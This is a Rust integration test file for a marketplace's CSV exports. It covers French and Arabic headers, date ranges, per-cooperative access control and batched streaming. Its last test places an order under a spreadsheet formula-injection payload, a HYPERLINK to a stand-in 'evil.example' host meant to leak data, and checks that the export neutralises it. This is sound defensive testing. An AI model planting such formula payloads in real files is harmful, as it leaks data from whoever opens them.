//! CSV exports through HTTP: an admin downloads the orders of a period (both days included) with
//! a byte-order mark and column names in French or Arabic, Arabic text intact, streamed without a
//! length; a cooperative's member gets its own shipments and orders (its part's figures, no
//! buyer e-mail) and is refused another cooperative's, the whole platform's and the list of
//! cooperatives; signed-out visitors are refused; bad dates get a translated 400 and no rows;
//! every kind exports on both databases, and an export longer than a batch has every row once.

use crate::{
    cooperatives::{setup, verified_cooperative},
    helpers::*,
    orders::amal_cooperative,
};
use backend::entity::{
    cooperative, cooperative_member, order, product, product_translation, request, shipment, user,
};
use chrono::{DateTime, TimeZone, Utc};
use reqwest::Client;
use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
use std::collections::HashSet;
use uuid::Uuid;

/// `y-m-d h:min` UTC.
fn at(y: i32, m: u32, d: u32, h: u32, min: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, m, d, h, min, 0)
        .single()
        .expect("a time")
}

/// One cooperative's part of an order: `(cooperative, goods, delivery)` in centimes.
type Part = (Uuid, i64, i64);

/// An order of `parts` placed at `when` for `recipient` in `city`, written straight to the
/// database (checkout has its own tests); returns its number.
async fn order_at(
    app: &TestApp,
    number: &str,
    when: DateTime<Utc>,
    recipient: &str,
    city: &str,
    parts: &[Part],
) -> String {
    let id = Uuid::now_v7();
    let goods: i64 = parts.iter().map(|p| p.1).sum();
    let delivery: i64 = parts.iter().map(|p| p.2).sum();
    order::ActiveModel {
        id: Set(id),
        number: Set(number.to_owned()),
        idempotency_key: Set(Uuid::now_v7().to_string()),
        buyer_id: Set(None),
        email: Set(format!("{}@buyer.ma", number.to_lowercase())),
        locale: Set("fr".into()),
        payment_method: Set(domain::order::PaymentMethod::CashOnDelivery),
        payment_state: Set(domain::order::PaymentState::Pending),
        currency: Set("MAD".into()),
        goods_centimes: Set(goods),
        delivery_centimes: Set(delivery),
        total_centimes: Set(goods + delivery),
        fee_permille: Set(0),
        recipient_name: Set(recipient.to_owned()),
        phone: Set("0661234567".into()),
        region: Set("rabat_sale_kenitra".into()),
        city: Set(city.to_owned()),
        address_line: Set("12 rue des Orangers".into()),
        notes: Set(None),
        access_token_hash: Set(format!("hash-{number}")),
        created_at: Set(when),
        updated_at: Set(when),
    }
    .insert(&app.db)
    .await
    .expect("order");
    for &(cooperative_id, goods, delivery) in parts {
        shipment::ActiveModel {
            id: Set(Uuid::now_v7()),
            order_id: Set(id),
            cooperative_id: Set(cooperative_id),
            state: Set(domain::order::ShipmentState::Shipped),
            goods_centimes: Set(goods),
            delivery_centimes: Set(delivery),
            platform_fee_centimes: Set(0),
            cooperative_share_centimes: Set(goods + delivery),
            carrier: Set(Some("Amana".into())),
            tracking_number: Set(Some(format!("TRK-{number}"))),
            cancel_reason: Set(None),
            cash_collected_at: Set(None),
            confirmed_at: Set(Some(when)),
            shipped_at: Set(Some(when)),
            delivered_at: Set(None),
            cancelled_at: Set(None),
            created_at: Set(when),
            updated_at: Set(when),
        }
        .insert(&app.db)
        .await
        .expect("shipment");
    }
    number.to_owned()
}

/// Makes a new account the owner of `coop`; returns its signed-in browser.
async fn owner_of(app: &TestApp, coop: Uuid, name: &str, email: &str) -> Client {
    let client = signed_up(app, name, email).await;
    let id = user::Entity::find()
        .filter(user::Column::Email.eq(email))
        .one(&app.db)
        .await
        .expect("query")
        .expect("user")
        .id;
    cooperative_member::ActiveModel {
        cooperative_id: Set(coop),
        user_id: Set(id),
        role: Set("owner".into()),
        created_at: Set(Utc::now()),
        updated_at: Set(Utc::now()),
    }
    .insert(&app.db)
    .await
    .expect("member");
    client
}

/// Two cooperatives (Tifawt, owned by `app.client`; Amal, owned by the returned browser) and
/// five orders from January to April 2026.
struct Market {
    app: TestApp,
    admin: Client,
    tifawt: cooperative::Model,
    amal: cooperative::Model,
    amal_owner: Client,
}

async fn market() -> Market {
    let (app, admin) = setup().await;
    let tifawt = verified_cooperative(&app, &admin).await;
    let amal = amal_cooperative(&app).await;
    let amal_owner = owner_of(&app, amal.id, "Hassan", "hassan@example.ma").await;
    let (t, a) = (tifawt.id, amal.id);
    order_at(
        &app,
        "TA-JAN",
        at(2026, 1, 15, 10, 0),
        "Idrissi, Salma",
        "Salé",
        &[(t, 15_000, 3_000)],
    )
    .await;
    order_at(
        &app,
        "TA-FEB",
        at(2026, 2, 10, 9, 30),
        "فاطمة الزهراء",
        "الدار البيضاء",
        &[(t, 15_000, 3_000), (a, 8_000, 0)],
    )
    .await;
    order_at(
        &app,
        "TA-MAR",
        at(2026, 3, 5, 18, 0),
        "Karim",
        "Rabat",
        &[(a, 8_000, 3_000)],
    )
    .await;
    order_at(
        &app,
        "TA-LAST",
        at(2026, 3, 31, 23, 30),
        "Nadia",
        "Kénitra",
        &[(a, 4_000, 3_000)],
    )
    .await;
    order_at(
        &app,
        "TA-APR",
        at(2026, 4, 1, 0, 10),
        "Omar",
        "Témara",
        &[(t, 4_000, 3_000)],
    )
    .await;
    Market {
        app,
        admin,
        tifawt,
        amal,
        amal_owner,
    }
}

/// GET `path` as `client` in `lang`: status, headers and the raw body.
async fn download(
    app: &TestApp,
    client: &Client,
    path: &str,
    lang: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let response = client
        .get(app.url(path))
        .header("accept", "text/csv,text/html")
        .header("accept-language", lang)
        .send()
        .await
        .expect("GET");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = response.bytes().await.expect("body").to_vec();
    (status, headers, body)
}

/// The lines of a CSV body after its byte-order mark (which must be there).
fn csv_lines(body: &[u8]) -> Vec<String> {
    assert!(
        body.starts_with(&[0xEF, 0xBB, 0xBF]),
        "a UTF-8 byte-order mark first: {:?}",
        &body[..body.len().min(16)]
    );
    let text = std::str::from_utf8(&body[3..]).expect("UTF-8");
    text.lines().map(str::to_owned).collect()
}

/// The lines whose first cell is `number`.
fn rows_of<'a>(lines: &'a [String], number: &str) -> Vec<&'a String> {
    lines
        .iter()
        .filter(|l| l.starts_with(&format!("{number},")))
        .collect()
}

#[tokio::test]
async fn an_admin_exports_the_orders_of_a_period_in_french_and_arabic_for_spreadsheets() {
    let m = market().await;
    let path = "/exports/orders.csv?from=2026-02-01&to=2026-03-31";
    let (status, headers, body) = download(&m.app, &m.admin, path, "fr").await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert_eq!(
        crate::helpers::header(&headers, "content-type"),
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        crate::helpers::header(&headers, "content-disposition"),
        "attachment; filename=\"taawon-orders-2026-02-01-2026-03-31.csv\""
    );
    assert_eq!(
        crate::helpers::header(&headers, "cache-control"),
        "private, no-store"
    );
    assert!(
        headers.get("content-length").is_none(),
        "streamed: no length announced up front"
    );
    let lines = csv_lines(&body);
    assert_eq!(
        lines[0],
        "Numéro,Date,E-mail de l’acheteur,Nom du destinataire,Région,Ville,Mode de paiement,\
         Paiement,Produits (MAD),Livraison (MAD),Total (MAD)"
    );
    // February to March 31 included: not January, not the first minutes of April.
    let numbers: Vec<&str> = lines[1..]
        .iter()
        .map(|l| l.split(',').next().unwrap_or_default())
        .collect();
    assert_eq!(numbers, ["TA-FEB", "TA-MAR", "TA-LAST"], "{lines:?}");
    assert_eq!(
        rows_of(&lines, "TA-FEB")[0],
        "TA-FEB,2026-02-10,ta-feb@buyer.ma,فاطمة الزهراء,Rabat-Salé-Kénitra,الدار البيضاء,\
         Paiement à la livraison,Pas encore payé,230.00,30.00,260.00"
    );

    // In Arabic: column names, region and words in Arabic; the whole period, quoting intact.
    let (status, _, body) = download(&m.app, &m.admin, "/exports/orders.csv", "ar").await;
    assert_eq!(status, 200);
    let lines = csv_lines(&body);
    assert!(
        lines[0].starts_with("الرقم,التاريخ,البريد الإلكتروني للمشتري,اسم المستلم,الجهة,المدينة"),
        "{}",
        lines[0]
    );
    assert_eq!(lines.len(), 6, "all five orders: {lines:?}");
    let feb = rows_of(&lines, "TA-FEB")[0];
    assert!(
        feb.contains(
            ",فاطمة الزهراء,الرباط سلا القنيطرة,الدار البيضاء,الدفع عند الاستلام,لم يُدفع بعد,"
        ),
        "{feb}"
    );
    assert!(
        rows_of(&lines, "TA-JAN")[0].contains(",\"Idrissi, Salma\",الرباط سلا القنيطرة,Salé,"),
        "a comma in a value is quoted"
    );
    // Without `to`, the file is named up to today.
    let (_, headers, _) = download(
        &m.app,
        &m.admin,
        "/exports/orders.csv?from=2026-01-01",
        "fr",
    )
    .await;
    let today = Utc::now().date_naive().to_string();
    assert_eq!(
        crate::helpers::header(&headers, "content-disposition"),
        format!("attachment; filename=\"taawon-orders-2026-01-01-{today}.csv\"")
    );
}

#[tokio::test]
async fn a_cooperative_member_exports_only_its_own_figures() {
    let m = market().await;
    let tifawt = m.tifawt.id.to_string();
    let amal = m.amal.id.to_string();

    // Tifawt's shipments: its two parts, and nothing of Amal's.
    let (status, _, body) = download(
        &m.app,
        &m.app.client,
        &format!("/exports/shipments.csv?cooperative={tifawt}&to=2026-03-31"),
        "fr",
    )
    .await;
    assert_eq!(status, 200);
    let lines = csv_lines(&body);
    assert_eq!(
        lines[0],
        "Commande,Date,Coopérative,État,Produits (MAD),Livraison (MAD),Commission de la plateforme (MAD),\
         Part de la coopérative (MAD),Transporteur,Numéro de suivi,Livrée le"
    );
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(
        rows_of(&lines, "TA-FEB")[0],
        &format!(
            "TA-FEB,2026-02-10,{},En route,150.00,30.00,0.00,180.00,Amana,TRK-TA-FEB,",
            m.tifawt.name_fr
        )
    );
    assert!(rows_of(&lines, "TA-JAN").len() == 1);
    assert!(
        !lines
            .iter()
            .any(|l| l.contains("Amal") || l.contains("TA-MAR"))
    );

    // Tifawt's orders: the ones it has a part of, with its part's figures and no buyer e-mail.
    let (status, _, body) = download(
        &m.app,
        &m.app.client,
        &format!("/exports/orders.csv?cooperative={tifawt}"),
        "fr",
    )
    .await;
    assert_eq!(status, 200);
    let lines = csv_lines(&body);
    assert!(!lines[0].contains("E-mail"), "{}", lines[0]);
    let numbers: HashSet<&str> = lines[1..]
        .iter()
        .map(|l| l.split(',').next().unwrap_or_default())
        .collect();
    assert_eq!(numbers, HashSet::from(["TA-JAN", "TA-FEB", "TA-APR"]));
    let feb = rows_of(&lines, "TA-FEB")[0];
    assert!(
        feb.ends_with(",150.00,30.00,180.00"),
        "its part only: {feb}"
    );
    assert!(!lines.iter().any(|l| l.contains("@buyer.ma")));

    // Another cooperative's figures, the whole platform's and the list of cooperatives: refused,
    // and nothing of them is sent.
    for (path, refused_with) in [
        (format!("/exports/orders.csv?cooperative={amal}"), 404),
        (format!("/exports/shipments.csv?cooperative={amal}"), 404),
        (
            format!("/exports/payouts.csv?cooperative={}", Uuid::now_v7()),
            404,
        ),
        ("/exports/orders.csv?cooperative=not-an-id".to_owned(), 404),
        ("/exports/orders.csv".to_owned(), 403),
        ("/exports/shipments.csv?from=2026-01-01".to_owned(), 403),
        (
            format!("/exports/cooperatives.csv?cooperative={tifawt}"),
            403,
        ),
    ] {
        let (status, headers, body) = download(&m.app, &m.app.client, &path, "fr").await;
        assert_eq!(status, refused_with, "{path}");
        assert!(
            crate::helpers::header(&headers, "content-type").starts_with("text/html"),
            "{path}"
        );
        let body = String::from_utf8_lossy(&body);
        assert!(
            !body.contains("TA-MAR") && !body.contains("TA-FEB"),
            "{path}"
        );
    }

    // Amal's owner gets Amal's; an admin gets either cooperative's.
    for client in [&m.amal_owner, &m.admin] {
        let (status, _, body) = download(
            &m.app,
            client,
            &format!("/exports/shipments.csv?cooperative={amal}"),
            "ar",
        )
        .await;
        assert_eq!(status, 200);
        let lines = csv_lines(&body);
        assert_eq!(lines.len(), 4, "{lines:?}");
        assert!(
            lines[1..].iter().all(|l| l.contains(",تعاونية أمل,")),
            "{lines:?}"
        );
    }
}

#[tokio::test]
async fn signed_out_visitors_and_unknown_files_are_refused() {
    let m = market().await;
    let anonymous = browser();
    let (status, headers, body) = download(&m.app, &anonymous, "/exports/orders.csv", "fr").await;
    assert_eq!(status, 401);
    assert!(crate::helpers::header(&headers, "content-type").starts_with("text/html"));
    let body = String::from_utf8_lossy(&body);
    assert!(body.contains("Veuillez vous connecter") && !body.contains("TA-FEB"));
    for path in [
        "/exports/users.csv",
        "/exports/orders.xlsx",
        "/exports/orders",
    ] {
        let (status, _, _) = download(&m.app, &m.admin, path, "fr").await;
        assert_eq!(status, 404, "{path}");
    }
}

#[tokio::test]
async fn bad_dates_get_a_translated_error_and_no_rows() {
    let m = market().await;
    for query in [
        "from=31/01/2026",
        "to=2026-02-30",
        "from=2026-04-01&to=2026-03-01",
        "from=tomorrow",
    ] {
        let path = format!("/exports/orders.csv?{query}");
        let (status, headers, body) = download(&m.app, &m.admin, &path, "fr").await;
        assert_eq!(status, 400, "{query}");
        assert!(crate::helpers::header(&headers, "content-type").starts_with("text/html"));
        assert!(headers.get("content-disposition").is_none());
        let body = String::from_utf8_lossy(&body);
        assert!(
            body.contains("Ces dates ne peuvent pas être utilisées"),
            "{query}: {body}"
        );
        assert!(
            !body.contains("TA-") && !body.starts_with('\u{feff}'),
            "{query}"
        );
    }
    let (status, _, body) = download(
        &m.app,
        &m.admin,
        "/exports/orders.csv?from=2026-13-01",
        "ar",
    )
    .await;
    assert_eq!(status, 400);
    assert!(String::from_utf8_lossy(&body).contains("لا يمكن استعمال هذين التاريخين"));
}

#[tokio::test]
async fn every_kind_exports_its_rows_in_the_readers_language() {
    let m = market().await;
    let now = Utc::now();
    // A credit for the February part and a transfer, in Tifawt's ledger.
    let feb_part = shipment::Entity::find()
        .filter(shipment::Column::CooperativeId.eq(m.tifawt.id))
        .filter(shipment::Column::TrackingNumber.eq("TRK-TA-FEB"))
        .one(&m.app.db)
        .await
        .expect("query")
        .expect("part");
    {
        use backend::services::ledger::{About, post};
        use domain::ledger::{self, Direction, Part, Position};
        let sale = Part {
            cooperative: m.tifawt.id,
            goods: 18_000,
            delivery: 0,
            fee: 0,
        };
        let earned = ledger::earned(&sale).expect("a sale");
        let mut about = About::part(&feb_part);
        about.on = Some(now.date_naive());
        post(&m.app.db, "test:earned", about, &earned)
            .await
            .expect("sale");
        let transfer = ledger::transfer(
            m.tifawt.id,
            Position::Owed(18_000),
            Direction::ToCooperative,
            10_000,
        )
        .expect("a transfer");
        let about = About {
            cooperative: Some(m.tifawt.id),
            reference: Some("VIR-2026-07".into()),
            on: Some(now.date_naive()),
            ..About::default()
        };
        post(&m.app.db, "test:transfer", about, &transfer)
            .await
            .expect("transfer");
    }
    // An Arabic-only product of Amal's and a request for help of Tifawt's.
    let product_id = Uuid::now_v7();
    product::ActiveModel {
        id: Set(product_id),
        cooperative_id: Set(m.amal.id),
        slug: Set("tmar-majhoul".into()),
        sku: Set("DAT-9".into()),
        category_code: Set("dates-dried-fruit".into()),
        price_centimes: Set(12_050),
        currency: Set("MAD".into()),
        stock: Set(7),
        unit: Set("kg".into()),
        quantity_milli: Set(1_000),
        weight_grams: Set(None),
        state: Set(domain::product::ProductState::Published),
        hidden_reason: Set(None),
        hidden_at: Set(None),
        published_at: Set(Some(now)),
        created_at: Set(now),
        updated_at: Set(now),
        several_prices: Set(false),
        in_feeds: Set(true),
    }
    .insert(&m.app.db)
    .await
    .expect("product");
    backend::services::product_options::insert_single(
        &m.app.db,
        &product::Entity::find_by_id(product_id)
            .one(&m.app.db)
            .await
            .expect("read")
            .expect("product"),
    )
    .await
    .expect("option");
    product_translation::ActiveModel {
        product_id: Set(product_id),
        locale: Set("ar".into()),
        title: Set("تمر المجهول".into()),
        description: Set(String::new()),
        description_html: Set(String::new()),
    }
    .insert(&m.app.db)
    .await
    .expect("title");
    let owner = user::Entity::find()
        .filter(user::Column::Email.eq("fatima@example.ma"))
        .one(&m.app.db)
        .await
        .expect("query")
        .expect("owner");
    request::ActiveModel {
        id: Set(Uuid::now_v7()),
        cooperative_id: Set(m.tifawt.id),
        skill: Set("packaging".into()),
        title: Set("Étiquette pour l'huile".into()),
        description: Set("Une étiquette bilingue.".into()),
        languages: Set(String::new()),
        on_site: Set(false),
        deadline: Set(None),
        state: Set(domain::expert::RequestState::ChangesRequested),
        expert_id: Set(None),
        invited_expert_id: Set(None),
        opened_at: Set(now),
        claimed_at: Set(Some(now)),
        first_claimed_at: Set(Some(now)),
        last_activity_at: Set(Some(now)),
        delivered_at: Set(None),
        completed_at: Set(None),
        minutes_logged: Set(90),
        identity_before_version: Set(None),
        identity_applied_version: Set(None),
        applied_at: Set(None),
        created_by: Set(owner.id),
        created_at: Set(now),
        updated_at: Set(now),
        claim_accepted_at: Set(None),
    }
    .insert(&m.app.db)
    .await
    .expect("request");
    let today = now.date_naive().to_string();

    let csv = |path: &'static str, lang: &'static str| {
        let (app, admin) = (&m.app, &m.admin);
        async move {
            let (status, _, body) = download(app, admin, path, lang).await;
            assert_eq!(status, 200, "{path}");
            csv_lines(&body)
        }
    };
    let payouts = csv("/exports/payouts.csv", "fr").await;
    assert_eq!(
        payouts[0],
        "Date,Coopérative,Opération,Commande,Référence du virement,Montant (MAD)"
    );
    let tifawt_fr = &m.tifawt.name_fr;
    assert!(
        payouts.contains(&format!(
            "{today},{tifawt_fr},Commande livrée,TA-FEB,,180.00"
        )) && payouts.contains(&format!(
            "{today},{tifawt_fr},Virement à la coopérative,,VIR-2026-07,-100.00"
        )),
        "{payouts:?}"
    );

    let cooperatives = csv("/exports/cooperatives.csv", "ar").await;
    assert_eq!(cooperatives.len(), 3, "{cooperatives:?}");
    assert!(cooperatives[0].starts_with("رقم التسجيل,الاسم القانوني بالعربية"));
    assert!(
        cooperatives.iter().any(|l| l
            .starts_with("2019/88,تعاونية أمل,Coopérative Amal,درعة تافيلالت,")
            && l.contains(",12,12,موثقة,")),
        "{cooperatives:?}"
    );

    let products = csv("/exports/products.csv", "fr").await;
    assert_eq!(
        products[0],
        "Référence (SKU),Produit,Option,Catégorie,Prix (MAD),Stock,État,Coopérative,Publié le"
    );
    assert!(
        products.contains(&format!(
            "DAT-9,تمر المجهول,,Dattes et fruits secs,120.50,7,En vente,Coopérative Amal,{today}"
        )),
        "a title in the only language filled in: {products:?}"
    );

    let requests = csv("/exports/requests.csv", "en").await;
    assert_eq!(
        requests[0],
        "Title,Type of help,State,Cooperative,Posted on,Taken on,Completed on,Hours logged"
    );
    assert!(
        requests.contains(&format!(
            "Étiquette pour l'huile,Packaging design,Changes asked,{tifawt_fr},{today},{today},,1.50"
        )),
        "{requests:?}"
    );
}

#[tokio::test]
async fn an_export_longer_than_a_batch_has_every_row_once_in_order() {
    let (app, admin) = setup().await;
    let coop = verified_cooperative(&app, &admin).await;
    let total = backend::services::exports::BATCH_ROWS as usize * 2 + 3;
    let start = at(2026, 5, 1, 8, 0);
    let mut orders = Vec::new();
    let mut parts = Vec::new();
    for i in 0..total {
        let id = Uuid::now_v7();
        let when = start + chrono::Duration::minutes(i as i64);
        orders.push(order::ActiveModel {
            id: Set(id),
            number: Set(format!("TA-{i:05}")),
            idempotency_key: Set(id.to_string()),
            buyer_id: Set(None),
            email: Set("bulk@buyer.ma".into()),
            locale: Set("ar".into()),
            payment_method: Set(domain::order::PaymentMethod::Card),
            payment_state: Set(domain::order::PaymentState::Paid),
            currency: Set("MAD".into()),
            goods_centimes: Set(1_000),
            delivery_centimes: Set(0),
            total_centimes: Set(1_000),
            fee_permille: Set(0),
            recipient_name: Set("سلمى".into()),
            phone: Set("0661234567".into()),
            region: Set("souss_massa".into()),
            city: Set("أكادير".into()),
            address_line: Set("حي السلام".into()),
            notes: Set(None),
            access_token_hash: Set(format!("h{i}")),
            created_at: Set(when),
            updated_at: Set(when),
        });
        parts.push(shipment::ActiveModel {
            id: Set(Uuid::now_v7()),
            order_id: Set(id),
            cooperative_id: Set(coop.id),
            state: Set(domain::order::ShipmentState::Delivered),
            goods_centimes: Set(1_000),
            delivery_centimes: Set(0),
            platform_fee_centimes: Set(0),
            cooperative_share_centimes: Set(1_000),
            carrier: Set(None),
            tracking_number: Set(None),
            cancel_reason: Set(None),
            cash_collected_at: Set(None),
            confirmed_at: Set(None),
            shipped_at: Set(None),
            delivered_at: Set(Some(when)),
            cancelled_at: Set(None),
            created_at: Set(when),
            updated_at: Set(when),
        });
    }
    for chunk in orders.chunks(200) {
        order::Entity::insert_many(chunk.to_vec())
            .exec(&app.db)
            .await
            .expect("orders");
    }
    for chunk in parts.chunks(200) {
        shipment::Entity::insert_many(chunk.to_vec())
            .exec(&app.db)
            .await
            .expect("parts");
    }
    for (client, path) in [
        (&admin, "/exports/orders.csv".to_owned()),
        (
            &app.client,
            format!("/exports/orders.csv?cooperative={}", coop.id),
        ),
        (
            &app.client,
            format!("/exports/shipments.csv?cooperative={}", coop.id),
        ),
    ] {
        let (status, _, body) = download(&app, client, &path, "ar").await;
        assert_eq!(status, 200, "{path}");
        let lines = csv_lines(&body);
        assert_eq!(lines.len(), total + 1, "{path}: a header and every row");
        let numbers: Vec<String> = lines[1..]
            .iter()
            .map(|l| l.split(',').next().unwrap_or_default().to_owned())
            .collect();
        let expected: Vec<String> = (0..total).map(|i| format!("TA-{i:05}")).collect();
        assert_eq!(numbers, expected, "{path}: each row once, oldest first");
        assert_eq!(
            body.windows(3).filter(|w| *w == [0xEF, 0xBB, 0xBF]).count(),
            1,
            "{path}: one byte-order mark, at the start"
        );
    }
}

/// Text a buyer typed opens in a spreadsheet as text: an order placed under the name
/// `=HYPERLINK(…)` (and a note starting `+`, `-` or `@`) comes out of the cooperative's orders
/// export with an apostrophe in front, while amounts stay numbers.
#[tokio::test]
async fn a_formula_typed_at_checkout_comes_out_of_an_export_as_text() {
    use crate::{
        cooperatives::setup,
        orders::{add, address, place},
        products::published_product,
    };
    let (app, admin) = setup().await;
    let (coop, argan) = published_product(&app, &admin).await;
    let guest = browser();
    add(&app, &guest, &argan, "1").await;
    let name = r#"=HYPERLINK("http://evil.example/?leak=","Salma")"#;
    let placed = place(
        &app,
        &guest,
        &address(
            &uuid::Uuid::new_v4().to_string(),
            &[("name", name), ("city", "@Salé"), ("notes", "-1+1")],
        ),
    )
    .await;
    assert!(
        location(&placed).starts_with("/orders/"),
        "{}",
        location(&placed)
    );
    let (status, _, body) = download(
        &app,
        &app.client,
        &format!("/exports/orders.csv?cooperative={}", coop.id),
        "fr",
    )
    .await;
    assert_eq!(status, 200);
    let mut reader = csv::ReaderBuilder::new().from_reader(&body[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
    assert_eq!(rows.len(), 1);
    let cells: Vec<&str> = rows[0].iter().collect();
    assert!(cells.contains(&format!("'{name}").as_str()), "{cells:?}");
    assert!(cells.contains(&"'@Salé"), "{cells:?}");
    let runs = |cell: &str| {
        cell.starts_with(['=', '+', '@']) || (cell.starts_with('-') && cell.parse::<f64>().is_err())
    };
    for cell in &cells {
        assert!(!runs(cell), "a cell a spreadsheet would run: {cell:?}");
    }
}
